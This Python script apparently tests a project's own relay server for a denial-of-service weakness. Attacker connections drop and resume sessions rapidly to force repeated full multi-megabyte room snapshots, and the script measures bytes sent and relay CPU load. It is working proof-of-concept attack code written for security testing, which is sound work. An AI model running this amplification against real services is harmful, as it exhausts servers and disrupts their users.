"""Full-snapshot amplification by resuming: a resume resets what the session was
delivered, so its next frame of every room is a full snapshot. An attacker that drops
its connection (no close frame) and resumes at once, again and again, asks for one
per resume.

Run (relay on TR_URL, its pid in TR_PID): python3 resume_amplify.py [seconds] [attackers]
Fills room 'big' with 8 x KIB KiB of state (env KIB, default 380: ~3 MB), then each attacker joins it and for `seconds`
resumes its session as fast as it can (each connection read until the room's full
snapshot arrives, or for 300 ms, then aborted);
an honest member moves an entity meanwhile, so the room changes every tick;
reports the full snapshots and bytes the attackers received and the relay's CPU."""
import asyncio, os, sys, time
from tr import *
from fill import fill

SECS = float(sys.argv[1]) if len(sys.argv) > 1 else 10
N = int(sys.argv[2]) if len(sys.argv) > 2 else 3
# KiB each of the 8 fillers writes (env KIB, default 380: a room of about 3 MB).
KIB = int(os.environ.get("KIB", "380"))
ROOM = "big"


async def attacker(secs, stats):
    ws = await connect()
    token = decode(await ws.recv()).messages[0].welcome.resume_token
    await ws.send(env(join(ROOM, 1, "relay")))
    await recv_until(ws, lambda m: m.WhichOneof("kind") == "joined")
    await drain(ws, 1.0)
    stop = time.time() + secs
    while time.time() < stop:
        ws.transport.abort()  # lost, not closed: the session is kept for a resume
        try:
            ws = await connect(f"resume={token}&received=0")
        except Exception as e:
            stats["refused"] += 1
            print("resume refused:", e)
            await asyncio.sleep(0.04)
            continue
        stats["resumes"] += 1
        end = time.time() + 0.3
        while time.time() < end:
            try:
                d = await asyncio.wait_for(ws.recv(), max(0.001, end - time.time()))
            except (asyncio.TimeoutError, websockets.ConnectionClosed):
                break
            stats["bytes"] += len(d)
            if len(d) > 8 * KIB * 1024 // 2:
                stats["full"] += 1  # only a full snapshot of this room is that big
                break
    ws.transport.abort()


async def mover(secs):
    """An honest member moving its entity 20 times a second: the room changes every
    tick, as a game's does (an idle room sends members frames once a second only)."""
    ws = await connect()
    await ws.recv()
    await ws.send(env(join(ROOM, 1, "relay")))
    await recv_until(ws, lambda m: m.WhichOneof("kind") == "joined")
    stop, seq = time.time() + secs, 0
    while time.time() < stop:
        seq += 1
        field = pb.Field(id=1, int=seq)
        writes = pb.EntityWrites(create=[pb.Entity(id=1, kind=1, fields=[field])]) if seq == 1 else \
            pb.EntityWrites(update=[pb.EntityUpdate(id=1, fields=[field])])
        await ws.send(env(cm(input=pb.Input(room=ROOM, seq=seq, writes=writes))))
        await drain(ws, 0.05)
    await ws.close()


async def main():
    pid = pid_of_relay()
    wss, readers = await fill(ROOM, conns=8, kib_per_conn=KIB)
    await asyncio.sleep(1)
    c0 = cpu_secs(pid); await asyncio.sleep(3)
    print(f"idle (fillers only): relay CPU {(cpu_secs(pid)-c0)/3*100:.0f}%  RSS {rss_kib(pid)} KiB")
    stats = {"resumes": 0, "refused": 0, "full": 0, "bytes": 0}
    c0, t0 = cpu_secs(pid), time.time()
    await asyncio.gather(mover(SECS + 1), *[attacker(SECS, stats) for _ in range(N)])
    dt = time.time() - t0
    cpu = (cpu_secs(pid) - c0) / dt
    print(f"resume: {N} attackers x {SECS:.0f}s: {stats['resumes']} resumes ({stats['refused']} refused), "
          f"full snapshots {stats['full']} ({stats['full']/dt:.1f}/s), {stats['bytes']/dt/1e6:.1f} MB/s to attackers, "
          f"relay CPU {cpu*100:.0f}%, RSS {rss_kib(pid)} KiB")
    for w in wss:
        await w.close()

asyncio.run(main())
